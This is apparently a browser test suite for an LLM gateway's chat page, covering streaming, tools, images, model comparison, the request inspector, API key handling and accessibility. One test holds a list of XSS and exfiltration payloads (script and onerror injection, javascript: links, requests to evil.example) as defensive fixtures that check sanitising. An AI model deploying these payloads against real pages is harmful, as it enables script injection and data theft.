// The page as the gateway serves it, in a real browser: by mouse and by keyboard, light and dark, wide and narrow.
import { mkdirSync, readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { fileURLToPath } from 'node:url'
import { loadConfig } from '@patchbay/config'
import { LlmError } from '@patchbay/core'
import { type MockProvider, mockProvider } from '@patchbay/testing'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { browserPath, launch, type Page } from '../../test/chromium.js'
import { over } from '../../test/served.js'
import { type GatewayServer, newKey, serve } from '../index.js'

const shots = fileURLToPath(new URL('../../.cache/shots', import.meta.url))
mkdirSync(shots, { recursive: true })
const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')

interface AxeResult {
  violations: { id: string; nodes: { html: string }[] }[]
}

describe.skipIf(!browserPath)('the page', () => {
  let browser: Awaited<ReturnType<typeof launch>>
  let first: MockProvider
  let second: MockProvider
  let gateways: GatewayServer[] = []
  let url: string
  let opened: Awaited<ReturnType<typeof browser.open>>[] = []

  beforeAll(async () => {
    browser = await launch()
  })
  afterAll(() => browser?.close())
  beforeEach(async () => {
    first = mockProvider({ retry: false })
    second = mockProvider({ retry: false })
    const inner = [await over(() => first), await over(() => second)]
    const entry = (at: number) => ({
      use: 'openai' as const,
      api: 'chat' as const,
      preset: 'vllm',
      model: 'default',
      baseURL: `${inner[at]?.url}/v1`,
      apiKey: 'none',
      retry: false as const,
    })
    const config = { default: 'small', providers: { small: entry(0), large: entry(1) } }
    const outer = await serve({ loaded: await loadConfig({ config, user: false }), port: 0 })
    gateways = [outer, ...inner]
    url = outer.url
  })
  afterEach(async () => {
    for (const { context } of opened) await context.close()
    opened = []
    for (const gateway of gateways) await gateway.close()
  })

  const open = async (options?: Parameters<typeof browser.open>[1]) => {
    const one = await browser.open(url, options)
    opened.push(one)
    await expect.poll(() => one.page.getByRole('combobox', { name: 'Model' }).inputValue()).toBe('small')
    return one
  }
  const question = (page: Page) => page.getByLabel('Your question')
  const answer = (page: Page, model = 'small') => page.getByRole('article', { name: model }).last()
  const ask = async (page: Page, text: string) => {
    await question(page).fill(text)
    await question(page).press('Enter')
  }

  it('chats, streamed, and keeps it', async () => {
    const { page, wrong, elsewhere } = await open()
    first.answer({ text: 'One **two** three', interval: 30, reasoning: 'Let me think.' }, 'Again.')
    await ask(page, 'Hello there')
    await expect.poll(() => answer(page).textContent()).toContain('Let me think.')
    await expect.poll(() => answer(page).locator('strong').textContent()).toBe('two')
    await expect.poll(() => answer(page).textContent()).toMatch(/first token .* s · .* tokens\/s .* out/)
    await ask(page, 'And again')
    await expect.poll(() => answer(page).textContent()).toContain('Again.')
    expect(first.requests[1]?.messages).toMatchObject([
      { role: 'user', content: [{ text: 'Hello there' }] },
      { role: 'assistant', content: [{ text: 'One **two** three' }] },
      { role: 'user', content: [{ text: 'And again' }] },
    ])
    await page.reload()
    await expect.poll(() => answer(page).textContent()).toContain('Again.')
    await page.getByRole('button', { name: 'New conversation' }).click()
    expect(await page.getByRole('article').count()).toBe(0)
    await page.getByRole('button', { name: 'Delete Hello there' }).click()
    await expect.poll(() => page.getByRole('button', { name: 'Hello there' }).count()).toBe(0)
    expect([wrong, elsewhere]).toEqual([[], []])
  })

  it('lets whoever sits before it be the tool', async () => {
    const { page } = await open()
    first.answer({ toolCalls: [{ id: 'c', name: 'get_weather', input: { city: 'Lima' } }] }, 'It is sunny.')
    await page.getByRole('button', { name: 'Use an example tool' }).click()
    await ask(page, 'Weather in Lima?')
    await page.getByLabel('Result of get_weather').fill('sunny, 21 degrees')
    await page.screenshot({ path: `${shots}/tool.png` })
    await page.getByRole('button', { name: 'Send results' }).click()
    await expect.poll(() => answer(page).textContent()).toContain('It is sunny.')
    expect(first.requests[0]?.tools).toMatchObject([{ name: 'get_weather' }])
    expect(first.requests[1]?.messages.at(-1)).toMatchObject({
      role: 'tool',
      content: [{ type: 'tool-result', id: 'c', output: 'sunny, 21 degrees' }],
    })
  })

  it('sends images', async () => {
    const { page } = await open()
    const png = Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      'base64',
    )
    await page.getByLabel('Images').setInputFiles({ name: 'a.png', mimeType: 'image/png', buffer: png })
    await page.getByRole('button', { name: 'Remove image 1' }).waitFor()
    await ask(page, 'What is it?')
    await expect.poll(() => first.requests.length).toBe(1)
    expect(first.requests[0]?.messages[0]?.content).toEqual([
      { type: 'image', mediaType: 'image/png', data: png.toString('base64') },
      { type: 'text', text: 'What is it?' },
    ])
  })

  it('asks several side by side, each with its own numbers', async () => {
    const { page } = await open()
    const words = Array.from({ length: 30 }, (_, index) => `word${index}`).join(' ')
    first.answer({ text: words, interval: 20 }, 'Mine.')
    second.answer({ text: words, interval: 40 }, 'Mine too.')
    await page.getByRole('button', { name: 'Compare' }).click()
    await page.getByRole('tab', { name: 'Statistics' }).click()
    await ask(page, 'Talk')
    await expect.poll(() => answer(page, 'large').textContent()).toContain('word10')
    await expect.poll(() => page.locator('.u-wrap canvas').count()).toBe(2)
    await expect.poll(() => answer(page, 'large').textContent(), { timeout: 5000 }).toContain('30 out')
    await expect
      .poll(() => page.getByRole('table', { name: 'All answers' }).locator('tbody tr').count())
      .toBe(2)
    await page.screenshot({ path: `${shots}/compare.png` })
    await ask(page, 'More')
    await expect.poll(() => answer(page, 'large').textContent()).toContain('Mine too.')
    expect(second.requests[1]?.messages).toHaveLength(3)
  })

  it('sends what is set, and says what is wrong with it', async () => {
    const { page } = await open()
    await page.getByRole('textbox', { name: 'System' }).fill('Be brief.')
    await page.getByLabel('Temperature').fill('0.5')
    await page.getByLabel('Max output tokens').fill('9')
    await page.getByLabel('Stop sequences, one per line').fill('END')
    await page.getByLabel('Reasoning').selectOption('low')
    await page.getByLabel('JSON schema of the answer').fill('{ "type": ')
    await ask(page, 'Hi')
    await page.getByRole('alert').filter({ hasText: 'The JSON schema' }).waitFor()
    expect(first.requests).toHaveLength(0)
    await page.getByLabel('JSON schema of the answer').fill('{ "type": "object" }')
    first.answer('{}')
    await question(page).press('Enter')
    await expect
      .poll(() => first.requests)
      .toMatchObject([
        {
          messages: [{ role: 'system' }, { role: 'user' }],
          temperature: 0.5,
          maxOutputTokens: 9,
          stop: ['END'],
          reasoning: 'low',
          output: { schema: { type: 'object' } },
        },
      ])
  })

  it('shows what went over the wire, and gives it as code', async () => {
    const { page, context } = await open()
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    first.answer('Over the wire')
    await ask(page, 'Hi')
    await answer(page).getByRole('button', { name: 'Inspect' }).click()
    const panel = page.getByRole('tabpanel')
    await expect.poll(() => panel.textContent()).toMatch(/POST \/v1\/chat\/completions → 200/)
    await expect.poll(() => panel.textContent()).toMatch(/ms {2}data: \{.*Over/)
    // It has no key.
    expect(await panel.textContent()).not.toContain('authorization')
    await page.screenshot({ path: `${shots}/inspector.png` })
    await answer(page).getByRole('button', { name: 'Copy as code' }).click()
    await page.getByRole('button', { name: 'Copy', exact: true }).click()
    const code = await page.evaluate<string>('navigator.clipboard.readText()')
    expect(code).toContain(`const provider = await connect('small')`)
    expect(code).toContain(`content: 'Hi'`)
    await page.getByLabel('For').selectOption('curl')
    await expect.poll(() => panel.textContent()).toContain('curl -N')
  })

  it('stops with Escape, and keeps what was said', async () => {
    const { page } = await open()
    first.answer({ text: 'half an answer', interval: 2000 })
    await ask(page, 'Hi')
    await expect.poll(() => answer(page).textContent()).toContain('half')
    await question(page).press('Escape')
    await expect.poll(() => answer(page).textContent()).toContain('Stopped.')
    expect(await answer(page).textContent()).toContain('half')
    await expect.poll(() => first.running).toBe(0)
  })

  it('says what failed, and what to do', async () => {
    const { page } = await open()
    first.answer(new LlmError('rate-limited', 'Slow down.'))
    await ask(page, 'Hi')
    await expect.poll(() => answer(page).getByRole('alert').textContent()).toMatch(/rate-limited .*Slow down/)
  })

  it('lets nothing of what a model says run, load or lead anywhere by itself', async () => {
    const { page, elsewhere } = await open()
    const evil = [
      '<script>window.pwned = 1</script>',
      '<img src="x" onerror="window.pwned = 2">',
      '![a](https://evil.example/steal?q=secret)',
      '<svg onload="window.pwned = 3"></svg>',
      '<iframe src="https://evil.example"></iframe>',
      '[click](javascript:window.pwned=4)',
      '<a href="data:text/html,<script>window.pwned=5</script>">x</a>',
      '<form action="https://evil.example"><input name="a"><button>b</button></form>',
      '<style>body { background: url(https://evil.example/css) }</style>',
      '<p style="position:fixed;inset:0">over all</p>',
      '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=6">',
      '[a link](https://good.example)',
      'the end',
    ].join('\n\n')
    first.answer({ events: [{ type: 'text', text: evil }] }, { reasoning: evil, text: 'x' })
    await ask(page, evil)
    await expect.poll(() => answer(page).textContent()).toContain('the end')
    const said = answer(page).locator('.markdown')
    expect(
      await said.locator('script, img, svg, iframe, form, input, button, style, [style], math').count(),
    ).toBe(0)
    // What would have been loaded is a link, which is followed by whoever wants to.
    const links = await Promise.all((await said.locator('a').all()).map((link) => link.getAttribute('href')))
    expect(links).toEqual(['https://evil.example/steal?q=secret', null, 'https://good.example'])
    // And nothing of it is lost.
    expect(await said.textContent()).toContain('<script>window.pwned = 1</script>')
    expect(await said.textContent()).toContain('<iframe src="https://evil.example"></iframe>')
    expect(await said.locator('a').last().getAttribute('rel')).toContain('noopener')
    await ask(page, 'More')
    await expect.poll(() => page.getByRole('article').count()).toBe(2)
    expect(await page.evaluate('window.pwned')).toBeUndefined()
    expect(elsewhere).toEqual([])
  })

  it('asks for a key where the gateway wants one, and keeps it until the window is closed', async () => {
    const { key, hash } = newKey()
    const gateway = await over(() => first, { keys: { ann: { hash } } })
    gateways.push(gateway)
    const one = await browser.open(gateway.url)
    opened.push(one)
    await one.page.getByLabel('This gateway needs an API key').fill(key)
    await one.page.getByRole('button', { name: 'Use key' }).click()
    first.answer('With a key')
    await expect.poll(() => one.page.getByRole('combobox', { name: 'Model' }).inputValue()).toBe('default')
    await ask(one.page, 'Hi')
    await expect.poll(() => answer(one.page, 'default').textContent()).toContain('With a key')
    await answer(one.page, 'default').getByRole('button', { name: 'Inspect' }).click()
    const panel = one.page.getByRole('tabpanel')
    await expect.poll(() => panel.textContent()).toContain('authorization: (left out)')
    expect(await panel.textContent()).not.toContain(key)
    expect(await one.page.evaluate('JSON.stringify(localStorage)')).not.toContain(key)
  })

  it.each([
    ['light', { colorScheme: 'light' as const }],
    ['dark', { colorScheme: 'dark' as const }],
    ['phone', { viewport: { width: 390, height: 780 }, hasTouch: true, isMobile: true }],
  ])('can be used by everybody: %s', async (name, options) => {
    const { page } = await open(options)
    first.answer({
      reasoning: 'Hm.',
      text: '# A title\n\nSome `code`, a [link](https://a.example) and\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    })
    await ask(page, 'What does it look like?')
    await expect.poll(() => answer(page).textContent()).toContain('A title')
    const check = async (where: string) => {
      await page.screenshot({ path: `${shots}/${name}-${where}.png` })
      await page.evaluate(axe)
      const { violations } = await page.evaluate<AxeResult>('axe.run()')
      expect(violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`)).toEqual(
        [],
      )
      expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    }
    await check('talk')
    if (name === 'phone') {
      await answer(page).getByRole('button', { name: 'Inspect' }).tap()
      await page.getByText('POST /v1/chat/completions').waitFor()
      await check('inspector')
      await page.getByRole('tab', { name: 'Statistics' }).tap()
      await expect.poll(() => page.locator('.u-wrap canvas').count()).toBe(2)
      await check('numbers')
      await page.getByRole('button', { name: 'Conversations' }).tap()
      await page.getByRole('button', { name: 'What does it look like?', exact: true }).waitFor()
      await check('list')
    } else {
      for (const tab of ['Statistics', 'Inspector']) {
        await page.getByRole('tab', { name: tab }).click()
        await check(tab.toLowerCase())
      }
    }
  })

  it('is all there by keyboard alone', async () => {
    const { page } = await open()
    first.answer('By keyboard')
    const focused = () =>
      page.evaluate<string>(`{
        const at = document.activeElement
        at.getAttribute('aria-label') ?? at.closest('label')?.textContent ?? at.textContent
      }`)
    const until = async (what: string) => {
      for (let presses = 0; presses < 60; presses++) {
        await page.keyboard.press('Tab')
        if ((await focused()).includes(what)) return
      }
      throw new Error(`Tab never reaches ${what}.`)
    }
    await until('Your question')
    await page.keyboard.type('Hi')
    await page.keyboard.press('Enter')
    await expect.poll(() => answer(page).textContent()).toContain('By keyboard')
    await page.keyboard.press('Shift+Tab')
    await until('Parameters')
    await page.keyboard.press('ArrowRight')
    await expect
      .poll(() => page.getByRole('tab', { name: 'Statistics' }).getAttribute('aria-selected'))
      .toBe('true')
  })
})
